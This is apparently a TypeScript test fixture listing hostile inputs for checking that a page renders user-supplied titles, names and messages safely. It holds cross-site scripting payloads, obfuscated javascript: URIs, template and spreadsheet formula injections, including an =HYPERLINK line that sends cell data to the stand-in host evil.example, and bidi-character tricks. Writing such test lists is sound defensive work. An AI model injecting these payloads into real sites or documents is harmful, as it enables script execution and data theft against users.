/**
 * What somebody may put into a page's title, an address, a name or a message, hoping that it is more than text to whoever
 * reads it later.
 *
 * Whatever of it comes alive is noticed by a watched page: it sets `owned`, opens a dialog, or calls `evil.example`.
 */
const OWN = "globalThis.owned=1";
export const FOREIGN_HOST = "evil.example";

export const HOSTILE: readonly string[] = [
  `<script>${OWN}</script>`,
  `"><script src="//${FOREIGN_HOST}/a.js"></script>`,
  `</script><script>${OWN}</script>`,
  `</title></textarea><img src=x onerror=${OWN}>`,
  `<img src=x onerror="${OWN}">`,
  `<img src="//${FOREIGN_HOST}/pixel.gif">`,
  `<svg onload=${OWN}>`,
  `<svg><script>${OWN}</script></svg>`,
  `<svg><animate onbegin=${OWN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${OWN}"><text y=20>link</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${OWN}>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.owned=1"></iframe>`,
  `<object data="data:text/html,<script>${OWN}</script>"></object>`,
  `<link rel=stylesheet href="//${FOREIGN_HOST}/a.css">`,
  `<style>@import "//${FOREIGN_HOST}/b.css";</style>`,
  `<base href="//${FOREIGN_HOST}/">`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN_HOST}/">`,
  `<form action="//${FOREIGN_HOST}/"><button autofocus>x</button></form>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<input autofocus onfocus=alert(1)>`,
  `" onmouseover="alert(1)" x="`,
  `' autofocus onfocus='alert(1)`,
  `<a href="javascript:alert(1)">read me</a>`,
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)//https://shop.example/`,
  `java\tscript:alert(1)`,
  `\u0001javascript\u003aalert(1)`,
  `java\u200bscript:alert(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `[press here](javascript:alert(1)) and ![x](data:text/html,1)`,
  `{{ 7 | times: 7 }}{% for i in (1..9) %}{{ i }}{% endfor %}`,
  "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(1)')()}}",
  `=HYPERLINK("http://${FOREIGN_HOST}/?"&A1,"open")`,
  `=cmd|'/c calc'!A0\n"second line"`,
  `\r\n@SUM(1+1)*cmd|' /c calc'!A0`,
  `safe\u202egnp.exe\u2066 isolate\u2069 \u0000 nul \ud800 half`,
  `__proto__`,
  `<b>${"very long ".repeat(60)}</b>`,
];

/** Longer than any field, and then than any message, may be. */
export const ENDLESS: readonly string[] = [
  `<b>${"very long ".repeat(900)}`,
  `<b>${"very long ".repeat(9_000)}`,
];

/** What stays of `text` where at most `length` are kept, without the blanks around it. */
export const within = (text: string, length: number): string => text.slice(0, length).trim();
